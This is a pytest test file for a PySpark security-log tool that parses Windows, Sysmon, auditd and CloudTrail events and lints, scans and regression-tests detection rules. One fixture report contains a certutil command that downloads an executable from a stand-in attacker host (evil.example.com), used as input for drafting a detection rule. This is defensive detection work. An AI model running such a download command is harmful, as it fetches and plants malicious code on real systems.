"""Log formats in, events out."""

import gzip
import json
import zipfile

import pytest
from pyspark.sql import functions as F

from sparkwatch.cli import main
from sparkwatch.operators import gate, reports
from sparkwatch.sources import captures, logs
from sparkwatch.sources.rules import load_rule_dir, load_rules, skipped

EVTX = {"Event": {"System": {"Provider": {"#attributes": {"Name": "P"}}, "EventID": {"#text": 1}, "Channel": "Security", "Computer": "h", "TimeCreated": {"#attributes": {"SystemTime": "t"}}}, "EventData": {"Image": "a.exe", "#attributes": {"x": 1}}}}
USER = {"Event": {"System": {"EventID": 7, "Channel": "C"}, "UserData": {"One": {"Param": "v"}}}}
FLAT = {"SourceName": "S", "Hostname": "H", "EventID": "4688", "Channel": "Security", "Message": "m", "NewProcessName": "n.exe", "@timestamp": "t"}
XML = '<Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><Computer>box</Computer></System><EventData><Data Name="Image">/bin/a &amp; b</Data><Data Name="ParentImage"/></EventData></Event>'
AUDIT = "type=EXECVE msg=audit(1700000000.123:42): argc=2 a0=\"cat\" a1='x y' a0=late\x1dUID=root"
TRAIL = {"eventSource": "s3", "eventName": "Get", "requestParameters": {"userName": "u"}, "@timestamp": "t"}


def events(df):
    return [r.event for r in df.orderBy("file", "event_idx").collect()]


def test_json_lines(spark, tmp_path):
    p = tmp_path / "a.jsonl"
    p.write_text("\n".join(["", json.dumps(EVTX), "not json", "[1]", json.dumps(USER), json.dumps(FLAT), json.dumps({"x": 1})]))
    a, b, c, d = events(logs.read_jsonl(spark, str(p)))
    assert (a["Channel"], a["EventID"], a["Image"], a["Provider_Name"], a["TimeCreated"]) == ("Security", "1", "a.exe", "P", "t") and "#attributes" not in a
    assert (b["EventID"], b["Param"]) == ("7", "v")
    assert (c["Provider_Name"], c["Computer"], c["TimeCreated"], c["Image"]) == ("S", "H", "t", "n.exe") and "Message" not in c
    assert d == {"x": "1"}
    with pytest.raises(Exception):
        logs.read_jsonl(spark, str(p), strict=True).collect()


def test_text_logs(spark, tmp_path):
    (tmp_path / "a.log").write_text("\n".join([XML, AUDIT, json.dumps(TRAIL), json.dumps({"Records": [TRAIL, TRAIL]}), json.dumps({"SyslogMessage": XML}), json.dumps({"SyslogMessage": XML.replace("Linux-Sysmon", "Other")}), json.dumps({"other": 1}), "prose"]))
    got = events(logs.read_text_logs(spark, str(tmp_path / "a.log")))
    assert len(got) == 6
    xml = next(e for e in got if e.get("Computer") == "box")
    assert (xml["Image"], xml["ParentImage"]) == ("/bin/a & b", "")
    audit = next(e for e in got if e["Channel"] == "linux-auditd")
    assert (audit["type"], audit["a0"], audit["a1"]) == ("EXECVE", "cat", "x y") and "UID" not in audit
    assert sum(e["Channel"] == "aws-cloudtrail" for e in got) == 3


FORMS = [
    ({"Event": {"System": {"Provider": {"Name": "flat"}, "EventID": "7", "TimeCreated": "2020"}, "EventData": {"Computer": "own", "New Value": "v", "a": {"#text": "t", "#attributes": {}}, "b": {"#attributes": {"x": 1}}, "Data": ["x", {"#text": "y"}]}, "UserData": {"Cleared": {"Channel": "System", "#attributes": {}}}}},
     {"Provider_Name": "flat", "EventID": "7", "TimeCreated": "2020", "Computer": "own", "New Value": "v", "NewValue": "v", "a": "t", "b": None, "Data": '["x","y"]', "Channel": "System"}),
    ({"Event": {"System": {"Channel": "c", "Security": {"#attributes": {"UserID": "S-1"}}}, "EventData": "plain", "UserData": {"p": 1, "q": {"r": 2}}}},
     {"Channel": "c", "UserID": "S-1", "Data": "plain", "p": "1", "q": '{"r":2}', "Computer": "", "Provider_Name": "", "TimeCreated": ""}),
    ({"Event": {"EventData": {"a b": "x", "ab": "y", "s": "{ not json"}}}, {"a b": "x", "ab": "y", "s": "{ not json", "Channel": "", "Computer": "", "Provider_Name": "", "TimeCreated": ""}),
    ({"Event": {"EventData": None, "UserData": ""}}, {"Channel": "", "Computer": "", "Provider_Name": "", "TimeCreated": ""}),
    ({"SourceName": "s", "Provider_Name": "p", "Hostname": "h", "Computer": "c", "@timestamp": "t", "TimeCreated": "u", "Message": "m"}, {"SourceName": "s", "Provider_Name": "p", "Hostname": "h", "Computer": "c", "TimeCreated": "t"}),
    ({"SourceName": "s", "Hostname": "h", "x": None}, {"Provider_Name": "s", "Computer": "h", "x": None}),
    ({"SyslogMessage": "nothing", "a": 1}, {"SyslogMessage": "nothing", "a": "1"}),
    ({"SyslogMessage": " type=EXECVE msg=audit(1.2:3): a0=x"}, {"SyslogMessage": " type=EXECVE msg=audit(1.2:3): a0=x"}),
    ({"SyslogMessage": "type=EXECVE msg=audit(1.2:3): a0=x a0=y type=z"}, {"Channel": "linux-auditd", "EventID": "0", "type": "EXECVE", "audit_id": "1.2:3", "a0": "x"}),
    ({"SyslogMessage": '<Event><EventID>3</EventID><Provider Name="Linux-Sysmon"/><Computer>h</Computer><Data Name="Computer">d</Data><Data Name="x">1</Data><Data Name="x">2</Data></Event>'},
     {"Channel": "linux-sysmon/operational", "EventID": "3", "Provider_Name": "Linux-Sysmon", "Computer": "d", "x": "2"}),
]


def test_forms_of_events(spark):
    """Sections that override, wrap or are texts; elements with attributes; names with blanks; taken names; messages that wrap no event."""
    df = spark.createDataFrame([(i, json.dumps(doc)) for i, (doc, _) in enumerate(FORMS)], "i int, doc string")
    as_line = logs.is_event(F.try_parse_json("doc"), any_object=False).alias("line")
    got = df.select(logs.normalised(F.col("doc")).alias("m"), logs.is_event(F.try_parse_json("doc")).alias("any"), as_line).orderBy("i").collect()
    assert [r.m for r in got] == [want for _, want in FORMS]
    assert all(r.any for r in got) and [r.line for r in got] == [False] * 8 + [True] * 2


def test_archives_and_concatenated_json(spark, tmp_path):
    (tmp_path / "m.json").write_text('{"a":1}\n{"a":2}{"a":3} [{"a":4},{"a":5}]')
    with zipfile.ZipFile(tmp_path / "z.zip", "w") as z:
        z.writestr("x.json", json.dumps(FLAT) * 3)
        z.writestr("__MACOSX/x.json", "{}")
        z.writestr("audit.log", AUDIT)
    with gzip.open(tmp_path / "g.jsonl.gz", "wt") as f:
        f.write('{"b":1}\n{"b":2}\n')
    got = logs.read_logs(spark, str(tmp_path))
    by = {r.f: r.n for r in got.groupBy(F.substring_index("file", "/", -1).alias("f")).agg(F.count("*").alias("n")).collect()}
    assert by == {"m.json": 5, "z.zip": 4, "g.jsonl.gz": 2}


def test_numbers_and_shards(spark, tmp_path):
    for name in "ab":
        (tmp_path / f"{name}.jsonl").write_text("\n".join(json.dumps({"i": i}) for i in range(50)))
    df = logs.read_jsonl(spark, str(tmp_path))
    assert df.filter(F.col("event_idx") != F.col("event.i").cast("long")).count() == 0 and df.count() == 100
    assert {r.shard for r in logs.shards(df, 20).collect()} == {0, 1, 2}
    assert logs.write_jsonl(df.select("event_idx", F.lit(1).alias("__hidden")), str(tmp_path / "out"), rows=30) == 100
    assert "__hidden" not in spark.read.json(str(tmp_path / "out")).columns


def test_empty_input(spark, tmp_path):
    (tmp_path / "e.jsonl").write_text("")
    assert logs.read_jsonl(spark, str(tmp_path / "e.jsonl")).count() == 0


RULE = """title: t
id: 6f1c2a0e-3b4d-4c1a-9e7f-0a1b2c3d4e01
description: a rule that looks for one program, for the tests
level: low
status: test
logsource: {product: windows, category: process_creation}
detection: {s: {Image|endswith: whoami.exe}, condition: s}
tags: [attack.t1033]
falsepositives: [admins]
tests:
  true_positives: [{Image: whoami.exe}]
  true_negatives: [{Image: x.exe}]
"""


def test_commands(spark, tmp_path):
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "a.yml").write_text(RULE)
    (tmp_path / "empty").mkdir()
    (tmp_path / "e.jsonl").write_text("\n".join(json.dumps({"Channel": "Security", "EventID": 4688, "Image": x}) for x in ("whoami.exe", "y.exe")))
    rules, events = str(tmp_path / "rules"), str(tmp_path / "e.jsonl")
    run = lambda *a: main(list(a), spark)
    assert run("lint", rules) == 0 and run("lint", str(tmp_path / "empty")) == 2 and run("nonsense") == 2
    assert run("scan", rules, events) == 0 and run("scan", rules, events, "--days", "0.01", "--fail-on-gate") == 1
    assert run("test", rules, events) == 1  # one of two events is a false positive
    assert run("coverage", rules) == 0 and run("score", rules) == 0 and run("features", rules) == 0 and run("convert", rules, events) == 0
    assert run("decay", rules, events) == 0 and run("ingest", events, str(tmp_path / "lake")) == 0 and run("synth", str(tmp_path / "synth")) == 0
    # several folders, single files, inputs that aren't there
    assert run("lint", rules, str(tmp_path / "rules" / "a.yml")) == 0 and run("lint", str(tmp_path / "rules" / "a.yml")) == 0
    assert run("lint", str(tmp_path / "nowhere")) == 2 and run("scan", rules, str(tmp_path / "nowhere")) == 2
    baseline = str(tmp_path / "baseline.json")
    assert run("test", rules, events, "--save-baseline", baseline) == 1 and run("test", rules, events, "--baseline", baseline) == 0
    report = tmp_path / "report.md"
    report.write_text("They ran\nC:\\Users\\x> certutil.exe -urlcache -f http://evil.example.com/a.exe out.exe\n")
    assert run("draft", str(report), "--technique", "T1105") == 0 and run("draft", str(report), "--keywords") == 0
    report.write_text("Nothing was run.")
    assert run("draft", str(report)) == 1


def test_rule_files(tmp_path):
    (tmp_path / "a.yml").write_text(RULE + "---\naction: global\n")
    (tmp_path / "b.yaml").write_text("title: [")
    rules, errors = load_rule_dir(str(tmp_path), str(tmp_path / "a.yml"), str(tmp_path / "nowhere"))
    assert len(rules) == 1 and set(errors) == {str(tmp_path / "b.yaml"), str(tmp_path / "nowhere")} and skipped(str(tmp_path)) == 1
    bare = load_rules("title: x\ndetection: {s: {a: 1}, condition: s}\n")[0]
    assert bare.level == bare.status == "" and bare.tactics == []


def test_captures(spark, tmp_path):
    """Regression cases replayed, emulated attacks with their logs, folders of logs, and descriptions that name files."""
    data = tmp_path / "regression_data" / "rules" / "x"
    data.mkdir(parents=True)
    (data / "info.yml").write_text("rule_metadata: [{id: 6f1c2a0e-3b4d-4c1a-9e7f-0a1b2c3d4e01, title: t}]\nregression_tests_info:\n- {type: evtx, path: a/one.evtx, match_count: 1}\n- {type: json, path: two.json}\n- {type: evtx, path: gone.evtx, match_count: 1}\n- {type: pcap, path: x}\n")
    (tmp_path / "regression_data" / "info.yml").write_text("a: [")
    event = lambda image: json.dumps({"Channel": "Security", "EventID": 4688, "NewProcessName": image})
    (data / "one.json").write_text(event("C:\\whoami.exe") + event("C:\\x.exe"))
    (data / "two.json").write_text(event("C:\\x.exe"))
    cases = captures.regression_cases(spark, str(tmp_path))
    assert [(r.file.rsplit("/", 1)[-1], r.expected) for r in cases.orderBy("file").collect()] == [("gone.json", 1), ("one.json", 1), ("two.json", None)]
    rules = load_rules(RULE)
    found = logs.read_json_files(spark, [str(data / "one.json"), str(data / "two.json")]).withColumn("file", F.regexp_replace("file", "^file:/*", "/"))
    got = {r.file.rsplit("/", 1)[-1]: (r.status, r.events, r.routed, r.matched) for r in gate.replay_captures(cases, rules, found).collect()}
    assert got == {"one.json": ("pass", 2, 2, 1), "two.json": ("fail", 1, 1, 0), "gone.json": ("unreadable", None, 0, 0)}
    (tmp_path / "r.yml").write_text(RULE)
    assert main(["regress", str(tmp_path / "r.yml"), str(tmp_path)], spark) == 1

    meta = tmp_path / "atomic" / "_metadata"
    meta.mkdir(parents=True)
    (meta / "SDWIN-1.yaml").write_text("id: SDWIN-1\ntitle: one\nattack_mappings: [{technique: T1059, sub-technique: 1}, {technique: T1105, sub-technique: null}, {technique: ''}]\nfiles: [{type: Host, link: 'https://x/datasets/atomic/h.zip'}, {type: Network, link: 'https://x/datasets/atomic/n.zip'}]\nsimulation: {adversary_view: whoami}\n")
    (meta / "SDWIN-2.yaml").write_text("id: SDWIN-2\nfiles: []\n")
    with zipfile.ZipFile(tmp_path / "atomic" / "h.zip", "w") as z:
        z.writestr("h.json", event("a") + "\n" + event("b"))
    sets = captures.attack_datasets(spark, str(tmp_path))
    assert [(r.id, r.techniques, len(r.host_files), r.adversary_view) for r in sets.collect()] == [("SDWIN-1", ["T1059.001", "T1105"], 1, "whoami")]
    assert captures.dataset_events(spark, sets).groupBy("id").count().collect() == [("SDWIN-1", 2)]
    (tmp_path / "atomic" / "h.zip").write_bytes(b"PK broken")
    assert captures.dataset_events(spark, sets).count() == 0

    logs_dir = tmp_path / "attack" / "T1003" / "a"
    logs_dir.mkdir(parents=True)
    for name in ("x.log", "y.json", "z.part"):
        (logs_dir / name).write_text("")
    (row,) = captures.capture_folders(spark, str(tmp_path / "attack"), "lab:").collect()
    assert (row.id, row.techniques, len(row.host_files)) == ("lab:T1003/a", ["T1003"], 2)
    (tmp_path / "window.txt").write_text("techniques = T1003,T1059\nnoise\nstart=1\n")
    assert captures.recording(str(tmp_path / "window.txt")) == {"techniques": "T1003,T1059", "start": "1"} and captures.recording("/nowhere") == {}
    files, texts = spark.createDataFrame([("h.zip",), ("other.zip",)], "name string"), spark.createDataFrame([("SDLIN-1", "T1003.001 and T1059 in h.zip, not xh.zip"), ("SDLIN-2", None)], "key string, text string")
    assert [tuple(r) for r in captures.named_in(files, texts).collect()] == [("h.zip", "SDLIN-1", ["T1003.001", "T1059"])]


def test_known_false_positives_and_results(spark, tmp_path):
    (tmp_path / "known.csv").write_text("RuleId;RuleName;MatchString\na;x;foo.*\na;x\nb;y;bar\n")
    assert {r.rule_id: r.patterns for r in reports.known_false_positives(spark, str(tmp_path / "known.csv")).collect()} == {"a": [".*", "foo.*"], "b": ["bar"]}
    table = spark.createDataFrame([("a", 1)], "rule_id string, hits int")
    out = reports.results({"hits": table}, str(tmp_path / "r.json"), {"hits": table})
    assert out["hits"] == [{"rule_id": "a", "hits": 1}] and json.loads((tmp_path / "r.json").read_text())["provenance"]["rows"] == {"hits": 1}
    with pytest.raises(ValueError, match="no report"):
        reports.results({"hits": table}, str(tmp_path / "r.json"), most=0)
    texts = tmp_path / "repo" / "rules" / "win"
    texts.mkdir(parents=True)
    (texts / "a.yml").write_text("detection:\n  condition: x | count() > 1\n")
    assert reports.aggregation_census(reports.rule_texts(spark, str(tmp_path / "repo"), ["rules"])).first()[1:] == (1, 1, 1, 0)
